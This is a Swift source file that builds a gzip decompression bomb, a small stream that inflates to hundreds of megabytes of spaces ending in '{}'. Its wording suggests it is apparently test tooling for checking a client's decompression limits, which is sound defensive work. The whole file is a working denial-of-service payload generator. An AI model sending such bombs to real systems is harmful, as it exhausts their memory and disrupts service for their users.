/// A gzip stream (RFC 1952) that inflates to spaces and `{}`: valid JSON for a client with enough
/// memory. One byte on the wire inflates to about 160.
enum GzipBomb {
    private static let space = UInt8(ascii: " ")
    /// The longest match that deflate can encode.
    private static let matchLength = 258

    static func bytes(inflatingTo size: Int) -> [UInt8] {
        let document = Array("{}".utf8)
        let spaces = max(1, size - document.count)
        var writer = BitWriter(bytes: [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255])
        // One final block with the fixed Huffman codes (RFC 1951, 3.2.6).
        writer.append(bits: 1, count: 1)
        writer.append(bits: 1, count: 2)
        writer.append(literal: space)
        let (matches, rest) = (spaces - 1).quotientAndRemainder(dividingBy: matchLength)
        writer.appendLongestMatches(matches)
        for _ in 0..<rest { writer.append(literal: space) }
        for byte in document { writer.append(literal: byte) }
        writer.appendEndOfBlock()
        writer.flush()
        var check = Checksum()
        check.append(space, count: spaces)
        for byte in document { check.append(byte, count: 1) }
        return writer.bytes + littleEndian(check.value)
            + littleEndian(UInt32(truncatingIfNeeded: spaces + document.count))
    }

    private static func littleEndian(_ number: UInt32) -> [UInt8] {
        (0..<4).map { UInt8(truncatingIfNeeded: number >> (8 * UInt32($0))) }
    }

    private struct BitWriter {
        var bytes: [UInt8]
        private var pending: UInt32 = 0
        private var pendingCount: UInt32 = 0

        init(bytes: [UInt8]) {
            self.bytes = bytes
        }

        /// Lowest bit first.
        mutating func append(bits: UInt32, count: UInt32) {
            pending |= bits << pendingCount
            pendingCount += count
            while pendingCount >= 8 {
                bytes.append(UInt8(truncatingIfNeeded: pending))
                pending >>= 8
                pendingCount -= 8
            }
        }

        /// Huffman codes are written highest bit first.
        private mutating func append(code: UInt32, count: UInt32) {
            for position in stride(from: Int(count) - 1, through: 0, by: -1) {
                append(bits: code >> UInt32(position) & 1, count: 1)
            }
        }

        /// Only for bytes below 144, whose codes have eight bits.
        mutating func append(literal byte: UInt8) {
            append(code: 0x30 + UInt32(byte), count: 8)
        }

        /// Length 258 (symbol 285) at distance 1 (symbol 0).
        private mutating func appendLongestMatch() {
            append(code: 0b1100_0101, count: 8)
            append(code: 0, count: 5)
        }

        /// Eight matches fill 13 whole bytes that repeat, so they are copied: a bomb of hundreds of
        /// megabytes is built quickly.
        mutating func appendLongestMatches(_ count: Int) {
            let (groups, rest) = count.quotientAndRemainder(dividingBy: 8)
            for group in 0..<groups {
                if group < 2 {
                    for _ in 0..<8 { appendLongestMatch() }
                } else {
                    // The pending bits equal those before the second group.
                    bytes.append(contentsOf: bytes.suffix(13))
                }
            }
            for _ in 0..<rest { appendLongestMatch() }
        }

        mutating func appendEndOfBlock() {
            append(code: 0, count: 7)
        }

        mutating func flush() {
            if pendingCount > 0 { append(bits: 0, count: 8 - pendingCount) }
        }
    }

    /// CRC-32. Appending one byte is an affine map of the register, so a run of equal bytes takes
    /// logarithmic time.
    private struct Checksum {
        private var register: UInt32 = .max

        var value: UInt32 { ~register }

        mutating func append(_ byte: UInt8, count: Int) {
            var step = AffineMap(appending: byte)
            var remaining = count
            while remaining > 0 {
                if remaining & 1 == 1 { register = step.applied(to: register) }
                step = step.twice
                remaining >>= 1
            }
        }
    }

    /// `x -> M x + c` over 32 bits; the columns are M's images of the single bits.
    private struct AffineMap {
        private var columns: [UInt32]
        private var constant: UInt32

        init(appending byte: UInt8) {
            constant = Self.step(UInt32(byte))
            columns = (0..<32).map { Self.step(1 << UInt32($0)) }
        }

        /// Linear: no bit set gives no bit set.
        private static func step(_ mixed: UInt32) -> UInt32 {
            (0..<8).reduce(mixed) { value, _ in
                value & 1 == 1 ? value >> 1 ^ 0xEDB8_8320 : value >> 1
            }
        }

        private func linear(_ register: UInt32) -> UInt32 {
            var result: UInt32 = 0
            for bit in 0..<32 where register >> UInt32(bit) & 1 == 1 {
                result ^= columns[bit]
            }
            return result
        }

        func applied(to register: UInt32) -> UInt32 {
            linear(register) ^ constant
        }

        var twice: AffineMap {
            var map = self
            map.columns = columns.map(linear)
            map.constant = linear(constant) ^ constant
            return map
        }
    }
}
